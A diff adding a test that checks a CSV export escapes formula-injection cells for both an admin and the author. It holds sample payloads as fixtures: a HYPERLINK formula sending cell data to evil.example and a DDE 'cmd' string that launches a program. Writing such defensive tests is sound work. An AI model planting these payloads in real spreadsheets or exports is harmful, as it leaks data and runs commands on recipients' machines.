@@ -363,6 +363,34 @@ describe("export", () => {
     expect(chemistryRow?.workload).toBe("~36 hours total");
   });
 
+  it("neutralises cells that a spreadsheet would run as formulas, for the admin and the author", async () => {
+    const mallory = await signedInFaculty(t.app, t.database.db, { name: "=1+1" });
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
+    const description = "+cmd|' /C calc'!A0 opens a calculator";
+    const pending = await createTemplateViaApi(t.app, mallory.headers, {
+      name,
+      description,
+      template: {
+        phases: ["@SUM(1+1)", "Launch: field work"],
+        deliverables: ["-2+3"],
+        tools: ["R"],
+      },
+    });
+    for (const who of [admin, mallory]) {
+      const reply = await exportAs("csv", [pending.id], who.headers);
+      expect(reply.statusCode).toBe(200);
+      const [row] = parse(reply.rawPayload.toString("utf8"), { bom: true, columns: true }) as Record<
+        string,
+        string
+      >[];
+      expect(row?.name).toBe(`'${name}`);
+      expect(row?.description).toBe(`'${description}`);
+      expect(row?.phases).toBe(`'@SUM(1+1)${CSV_LIST_SEPARATOR}Launch: field work`);
+      expect(row?.deliverables).toBe("'-2+3");
+      expect(row?.author).toBe("'=1+1");
+    }
+  });
+
   it("exports the complete records as JSON", async () => {
     const reply = await exportAs("json", [dataScience.id, blockchain.id, blockchain.id]);
     expect(reply.headers["content-disposition"]).toContain('filename="PBL-Templates-Complete-Data.json"');
